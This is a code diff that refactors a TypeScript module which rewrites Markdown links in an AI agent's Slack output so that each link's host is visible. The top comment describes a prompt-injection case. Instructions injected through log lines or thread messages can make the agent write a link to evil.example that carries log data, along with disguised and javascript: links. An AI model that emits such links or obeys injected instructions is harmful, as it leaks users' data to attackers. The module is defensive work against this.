@@ -1,19 +1,11 @@
 /**
- * Where a link in agent output goes must be visible (DESIGN "Thread context is quoted data").
- * Agent output is untrusted (log lines and thread messages reach the agent), so an injected
- * instruction can make the agent write `[docs](https://evil.example/?q=<log data>)`: one click
- * would carry the data away. Slack's `markdown` block shows only the label, so:
- *
- * - a link labelled with words shows its host inside the label, and stays clickable:
- *   `[docs](https://x.example/a?q=1)` → `[docs (x.example)](https://x.example/a?q=1)`, read as
- *   "docs (x.example)". Inside the label, the host cannot be split from the link into another
- *   message, and the plain-text fallback (which keeps labels) shows it too;
- * - a label that reads as another address (`[https://good.example](https://evil.example)`, a
- *   disguise) and a target that is not a web address (`mailto:`, `javascript:`, relative) are
- *   unlinked: `label (target)`, both in plain sight;
- * - a link whose label is its own address, or names its own host, stays as it is;
- * - a reference definition (`[1]: https://…`) is escaped, so no `[docs][1]` can become a link
- *   that skips these rules; its address stays visible as text.
+ * Where a link in agent output goes must be visible (DESIGN "Thread context is quoted data"): an
+ * injected instruction can make the agent write `[docs](https://evil.example/?q=<log data>)`, and
+ * Slack's `markdown` block shows only the label. So a link labelled with words shows its host in
+ * the label (`[docs (x.example)](https://x.example/a?q=1)`: no cut separates them, and the
+ * plain-text fallback keeps it); a label reading as another address, or a target that is no web
+ * address, is unlinked as `label (target)`; a link labelled with its own address or host stays;
+ * a reference definition (`[1]: https://…`) is escaped so no `[docs][1]` skips these rules.
  * Images (`![alt](src)`) follow the same rules: Slack's markdown block shows them as links.
  */
 
@@ -22,9 +14,8 @@ const MARKDOWN_LINK =
   /(!?)\[((?:[^[\]\n]|\[[^[\]\n]*\])+)\]\(\s*(<[^<>\n]*>|[^\s()<>]+(?:\([^\s()]*\)[^\s()<>]*)*)(\s+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?\s*\)/g;
 
 /**
- * A CommonMark link reference definition whose destination has a scheme or starts with `www.`
- * or `//` (`[1]: https://…`): up to three spaces, `[label]:`, the destination. A log line such
- * as `[INFO]: started` is not one.
+ * A CommonMark reference definition (`[1]: https://…`) whose destination has a scheme or starts
+ * with `www.` or `//`; a log line such as `[INFO]: started` is not one.
  */
 const REFERENCE_DEFINITION =
   /^( {0,3})\[((?:[^[\]\n]|\\[[\]])+)\]:(?=[ \t]*<?(?:[a-z][a-z0-9+.-]*:|www\.|\/\/))/gim;
@@ -42,28 +33,26 @@ function bareLabel(label: string): string {
     .trim();
 }
 
-/** The host an address names (lower case, no `www.`), or undefined when it names none. */
-export function hostOf(address: string): string | undefined {
-  const withScheme = /^[a-z][a-z0-9+.-]*:/i.test(address) ? address : `https://${address}`;
+/** `part` of a URL, lower case; undefined when it is empty or the text is no URL. */
+function urlPart(url: string, part: 'host' | 'hostname'): string | undefined {
   try {
-    const host = new URL(withScheme).hostname.toLowerCase().replace(/^www\./, '');
-    return host === '' ? undefined : host;
+    return new URL(url)[part].toLowerCase() || undefined;
   } catch {
     return undefined;
   }
 }
 
-/** The host to show for a web address (`http:`/`https:` with a host), as the browser will reach it. */
-function webHost(target: string): string | undefined {
-  if (!/^https?:\/\//i.test(target)) return undefined;
-  try {
-    // `host` keeps a non-default port; an internationalised name shows as punycode (no look-alikes).
-    const host = new URL(target).host.toLowerCase();
-    return host === '' ? undefined : host;
-  } catch {
-    return undefined;
-  }
+/** The host an address names (lower case, no `www.`), or undefined when it names none. */
+export function hostOf(address: string): string | undefined {
+  const withScheme = /^[a-z][a-z0-9+.-]*:/i.test(address) ? address : `https://${address}`;
+  return urlPart(withScheme, 'hostname')?.replace(/^www\./, '') || undefined;
 }
+
+/**
+ * The host to show for a web address (`http:`/`https:`), as the browser will reach it: `host`
+ * keeps a non-default port; an internationalised name shows as punycode (no look-alikes).
+ */
+const webHost = (target: string) => (/^https?:\/\//i.test(target) ? urlPart(target, 'host') : undefined);
 
 /** True when `label` reads as an address of another host than `target` (or target has none). */
 export function isDisguised(label: string, target: string): boolean {
@@ -102,16 +91,12 @@ function rewriteLinks(text: string, rewrite: Rewrite): string {
 }
 
 /** Rewrites every disguised Markdown link in prose (not code) as `label (target)`. Images stay. */
-export function revealDisguisedLinks(text: string): string {
-  return rewriteLinks(text, (link, bang, label, target) =>
+export const revealDisguisedLinks = (text: string): string =>
+  rewriteLinks(text, (link, bang, label, target) =>
     !bang && isDisguised(label, target) ? `${label} (${target})` : link,
   );
-}
 
-/**
- * Every Markdown link in prose (not code) made to show where it goes, as the module comment
- * says. Applying it twice changes nothing more.
- */
+/** Every Markdown link in prose (not code) made to show where it goes; idempotent. */
 export function showLinkHosts(text: string): string {
   const linked = rewriteLinks(text, (link, bang, label, target, title) => {
     if (isOwnAddress(label, target)) return link;
@@ -122,7 +107,8 @@ export function showLinkHosts(text: string): string {
     if (labelNamesHost(label, target)) return link;
     return `${bang}[${label} (${host})](${target.includes(' ') ? `<${target}>` : target}${title})`;
   });
-  return linked.replace(REFERENCE_DEFINITION, (_definition, indent: string, label: string) => {
-    return `${indent}\\[${label}]:`;
-  });
+  return linked.replace(
+    REFERENCE_DEFINITION,
+    (_definition, indent: string, label: string) => `${indent}\\[${label}]:`,
+  );
 }
